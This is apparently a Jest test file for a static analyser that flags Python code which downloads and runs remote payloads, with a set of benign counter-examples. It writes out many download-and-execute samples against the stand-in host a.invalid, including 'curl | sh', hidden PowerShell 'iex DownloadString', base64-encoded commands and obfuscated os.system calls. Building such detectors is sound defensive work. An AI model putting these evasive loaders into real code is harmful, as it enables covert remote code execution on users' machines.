import { expect, test } from '@jest/globals';
import { actsIn, base64, everyAct, read } from './read.js';

const DOWNLOADED: readonly { name: string; source: string }[] = [
  {
    name: 'urlretrieve, then Popen',
    source:
      'import urllib.request, subprocess\nurllib.request.urlretrieve("https://a.invalid/x.exe", "x.exe")\nsubprocess.Popen("x.exe")',
  },
  {
    name: 'urlretrieve to a built path',
    source:
      'import os, tempfile, subprocess\nfrom urllib.request import urlretrieve\np = os.path.join(tempfile.gettempdir(), "x")\nurlretrieve("https://a.invalid/x", p)\nos.chmod(p, 0o755)\nsubprocess.call([p])',
  },
  {
    name: 'open and write',
    source:
      'import requests, os, sys\nr = requests.get("https://a.invalid/x.py")\nopen("/tmp/x.py", "wb").write(r.content)\nos.system("python /tmp/x.py")',
  },
  {
    name: 'with open and write',
    source:
      'import requests, subprocess, sys, tempfile, os\np = os.path.join(tempfile.mkdtemp(), "x.py")\nwith open(p, "w") as f:\n    f.write(requests.get("https://a.invalid/x").text)\nsubprocess.Popen([sys.executable, p], start_new_session=True)',
  },
  {
    name: 'a named temporary file',
    source:
      'import requests, subprocess, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(requests.get("https://a.invalid/x").content)\nf.close()\nsubprocess.Popen([f.name])',
  },
  {
    name: 'mkstemp',
    source:
      'import os, requests, subprocess, tempfile\nfd, p = tempfile.mkstemp()\nos.write(fd, requests.get("https://a.invalid/x").content)\nsubprocess.Popen([p])',
  },
  {
    name: 'chunks',
    source:
      'import requests, subprocess\nr = requests.get("https://a.invalid/x", stream=True)\nwith open("/tmp/xx", "wb") as f:\n    for c in r.iter_content(1024):\n        f.write(c)\nsubprocess.run(["/tmp/xx"])',
  },
  {
    name: 'copyfileobj',
    source:
      'import urllib.request, shutil, os\nwith urllib.request.urlopen("https://a.invalid/x") as r, open("/tmp/xx", "wb") as f:\n    shutil.copyfileobj(r, f)\nos.startfile("/tmp/xx")',
  },
  {
    name: 'pathlib',
    source:
      'import requests, subprocess\nfrom pathlib import Path\np = Path.home() / ".cache" / "x.bin"\np.write_bytes(requests.get("https://a.invalid/x").content)\np.chmod(0o755)\nsubprocess.Popen([str(p)])',
  },
  {
    name: 'moved before it runs',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/x", "/tmp/a.part")\nos.rename("/tmp/a.part", "/tmp/final.bin")\nsubprocess.Popen("/tmp/final.bin")',
  },
  {
    name: 'a download function',
    source:
      'import requests, subprocess\ndef save(u, p):\n    with open(p, "wb") as f:\n        f.write(requests.get(u).content)\nsave("https://a.invalid/x", "/tmp/xx")\nsubprocess.Popen(["/tmp/xx"])',
  },
  {
    name: 'a download function that gives the path',
    source:
      'import requests, subprocess, tempfile, os\ndef save(u):\n    p = os.path.join(tempfile.gettempdir(), "x")\n    open(p, "wb").write(requests.get(u).content)\n    return p\nsubprocess.Popen([save("https://a.invalid/x")])',
  },
  {
    name: 'methods and self',
    source:
      'import requests, subprocess\nclass A:\n    def __init__(self):\n        self.path = self.where()\n    def where(self):\n        return make()\n    def save(self):\n        open(self.path, "wb").write(requests.get("https://a.invalid/x").content)\n    def run(self):\n        self.save()\n        subprocess.Popen([self.path])\nA().run()',
  },
  {
    name: 'an archive unpacked',
    source:
      'import urllib.request, zipfile, os, subprocess\nurllib.request.urlretrieve("https://a.invalid/b.zip", "/tmp/b.zip")\nd = make()\nwith zipfile.ZipFile("/tmp/b.zip") as z:\n    z.extractall(d)\nsubprocess.Popen([os.path.join(d, "bun"), "run"])',
  },
  {
    name: 'curl to a file',
    source: 'import os\nos.system("curl -s -o /tmp/xx https://a.invalid/x")\nos.system("/tmp/xx")',
  },
  {
    name: 'curl with arguments',
    source:
      'import subprocess\nsubprocess.run(["curl", "-k", "https://a.invalid/t.pyz", "-o", "/tmp/t.pyz"])\nsubprocess.Popen(["python3", "/tmp/t.pyz"], start_new_session=True)',
  },
  { name: 'piped to a shell', source: 'import os\nos.system("curl -fsSL https://a.invalid/x | bash")' },
  {
    name: 'piped by subprocess',
    source: 'import subprocess\nsubprocess.Popen("wget -qO- https://a.invalid/x | sh", shell=True)',
  },
  { name: 'bash -c', source: 'import subprocess\nsubprocess.run(["bash", "-c", "curl https://a.invalid/x | sh"])' },
  { name: 'bash with a substitution', source: 'import os\nos.system(\'bash -c "$(curl -fsSL https://a.invalid/x)"\')' },
  {
    name: 'downloaded and started in one command',
    source: 'import os\nos.system("wget https://a.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x")',
  },
  {
    name: 'PowerShell',
    source:
      'import subprocess\nsubprocess.Popen(["powershell", "-w", "hidden", "-c", "iex (New-Object Net.WebClient).DownloadString(\'https://a.invalid/x\')"])',
  },
  {
    name: 'an address put together',
    source: 'import os\nhost = "a" + ".invalid"\nos.system(f"curl https://{host}/x | sh")',
  },
  { name: 'an unknown address', source: 'import os\ndef f(u):\n    os.system("curl " + u + " | sh")' },
  {
    name: 'os.system by another name',
    source: 'import os\ngetattr(os, "sys" + "tem")("curl https://a.invalid/x | sh")',
  },
  { name: 'os by __import__', source: '__import__("os").system("curl https://a.invalid/x | sh")' },
  {
    name: 'importlib',
    source: 'import importlib\nimportlib.import_module("o" + "s").system("curl https://a.invalid/x | sh")',
  },
  { name: 'sys.modules', source: 'import sys, os\nsys.modules["os"].system("curl https://a.invalid/x | sh")' },
  { name: '__dict__', source: 'import os\nos.__dict__["system"]("curl https://a.invalid/x | sh")' },
  { name: 'vars', source: 'import os\nvars(os)["system"]("curl https://a.invalid/x | sh")' },
  { name: 'eval of the import', source: "eval(\"__import__('os').system('curl https://a.invalid/x | sh')\")" },
  { name: 'a star import', source: 'from os import *\nsystem("curl https://a.invalid/x | sh")' },
  {
    name: 'inside a lambda that is called',
    source: 'import os\n(lambda: os.system("curl https://a.invalid/x | sh"))()',
  },
  { name: 'in a list comprehension', source: 'import os\n[os.system(c) for c in ["curl https://a.invalid/x | sh"]]' },
  {
    name: 'in a branch for one system',
    source:
      'import os, sys\nif sys.platform == "linux":\n    cmd = "curl https://a.invalid/x | sh"\nelse:\n    cmd = "echo"\nos.system(cmd)',
  },
  {
    name: 'asyncio',
    source:
      'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("curl https://a.invalid/x | sh")',
  },
  {
    name: 'a command that was encoded',
    source: `import os, base64\nos.system(base64.b64decode("${base64('curl https://a.invalid/x | sh')}").decode())`,
  },
  {
    name: 'a name of one letter in a directory',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "/tmp/a")\nos.system("/tmp/a")',
  },
  {
    name: 'a name of one letter, run by a shell',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "a")\nos.system("sh a")',
  },
  {
    name: 'a name of one letter, after going there',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "/tmp/a")\nos.chdir("/tmp")\nsubprocess.call(["./a"])',
  },
  {
    name: 'a short name behind wrappers',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "x.y")\nos.system("sudo nohup bash ./x.y")',
  },
  {
    name: 'a short name in the second part of a command',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "a")\nos.system("chmod +x a && ./a")',
  },
];

test.each(DOWNLOADED)('downloaded: $name', ({ source }) => {
  const found = actsIn(read(source));

  expect(found.filter((act) => act.startsWith('run-process<') && act.includes('downloaded-file'))).not.toEqual([]);
});

const ORDINARY: readonly { name: string; source: string }[] = [
  { name: 'git', source: 'import subprocess\nsubprocess.check_output(["git", "describe", "--tags"])' },
  {
    name: 'a compiler',
    source: 'import subprocess, os\nsubprocess.check_call([os.environ.get("CC", "cc"), "-c", "x.c"])',
  },
  {
    name: 'a download beside a process',
    source:
      'import requests, subprocess\nopen("data.json", "wb").write(requests.get("https://a.invalid/d").content)\nsubprocess.run(["git", "add", "."])',
  },
  {
    name: 'a downloaded file handed to tar',
    source:
      'import requests, subprocess\nopen("/tmp/data.tgz", "wb").write(requests.get("https://a.invalid/d").content)\nsubprocess.run(["tar", "xf", "/tmp/data.tgz"])',
  },
  { name: 'curl of a document', source: 'import os\nos.system("curl -O https://a.invalid/data.csv")' },
  {
    name: 'another path in the same directory',
    source:
      'import os, requests, subprocess\ndef f(d):\n    a = os.path.join(d, "data.bin")\n    b = os.path.join(d, "tool")\n    open(a, "wb").write(requests.get("https://a.invalid/d").content)\n    subprocess.run([b])',
  },
  { name: 'the path only read', source: 'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "demo"])' },
  {
    name: 'a short name is a word among others',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "a")\nos.system("ls -a b")',
  },
  {
    name: 'a short name of a program on the search path',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "ls")\nos.system("ls /var")',
  },
  {
    name: 'a short name handed to another script',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "a")\nos.system("sh build.sh a")',
  },
  {
    name: 'a short name in another directory',
    source:
      'import os, subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("https://a.invalid/a", "/tmp/a")\nos.system("/usr/bin/a")',
  },
];

test.each(ORDINARY)('ordinary: $name', ({ source }) => {
  const found = actsIn(read(source));

  expect(
    found.filter((act) => act.startsWith('run-process')).filter((act) => /downloaded|network|decoded/u.test(act)),
  ).toEqual([]);
});

test.each([
  { name: 'start_new_session', arguments: '["x"], start_new_session=True', traits: ['detached'] },
  { name: 'setsid', arguments: '["x"], preexec_fn=os.setsid', traits: ['detached'] },
  {
    name: 'DETACHED_PROCESS',
    arguments: '["x"], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW',
    traits: ['detached', 'hidden-window'],
  },
  { name: 'flags as a number', arguments: '["x"], creationflags=0x08000000', traits: ['hidden-window'] },
  {
    name: 'no output',
    arguments: '["x"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL',
    traits: ['silenced-output'],
  },
  { name: 'nohup', arguments: '"nohup x &", shell=True', traits: ['detached'] },
  { name: 'a hidden PowerShell', arguments: '"powershell -WindowStyle Hidden -File x.ps1"', traits: ['hidden-window'] },
  {
    name: 'output thrown away by the shell',
    arguments: '"x > /dev/null 2>&1", shell=True',
    traits: ['silenced-output'],
  },
  { name: 'curl without certificates', arguments: '"curl -k https://a.invalid/x", shell=True', traits: ['tls-off'] },
  { name: 'nothing of the kind', arguments: '["x"], stdout=subprocess.PIPE', traits: [] },
])('traits: $name', ({ arguments: given, traits }) => {
  const file = read(`import os, subprocess\nsubprocess.Popen(${given})`);

  expect(everyAct(file).find((act) => act.act === 'run-process')?.traits).toEqual(traits);
});

test('an error that is dropped is a trait of what it hides', () => {
  const file = read(
    'import os\ntry:\n    os.system("x")\nexcept:\n    pass\ntry:\n    os.system("y")\nexcept OSError:\n    raise\n',
  );

  expect(everyAct(file).map((act) => [act.target, act.traits])).toEqual([
    ['x', ['errors-swallowed']],
    ['y', []],
  ]);
});

test.each([
  {
    name: 'pip as a module',
    source: 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "demo"])',
  },
  { name: 'pip by the shell', source: 'import os\nos.system("pip install demo")' },
  { name: 'pip itself', source: 'import pip\npip.main(["install", "demo"])' },
  { name: 'pip by its inside', source: 'from pip._internal import main\nmain(["install", "demo"])' },
  { name: 'pip by its command line', source: 'from pip._internal.cli.main import main as m\nm(["install", "demo"])' },
  { name: 'pip by its module', source: 'import pip._internal.main as m\nm.main(["install", "demo"])' },
  { name: 'a name put in', source: 'import os\ndef f(n):\n    os.system(f"pip3 install --user {n}")' },
])('installs a package: $name', ({ source }) => {
  expect(actsIn(read(source))).toContain('install-package');
});

test('an encoded PowerShell command is decoded data', () => {
  const file = read('import subprocess\nsubprocess.Popen("powershell -NoP -EncodedCommand aQBuAGUAcgB0AA==")');

  expect(actsIn(file)).toEqual(['run-process<decoded>']);
});

test('code given to an interpreter is read as code', () => {
  const file = read(
    'import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import os; os.system(\'curl https://a.invalid/x | sh\')"])',
  );

  expect(actsIn(file)).toContain('run-process<downloaded-file>');
});
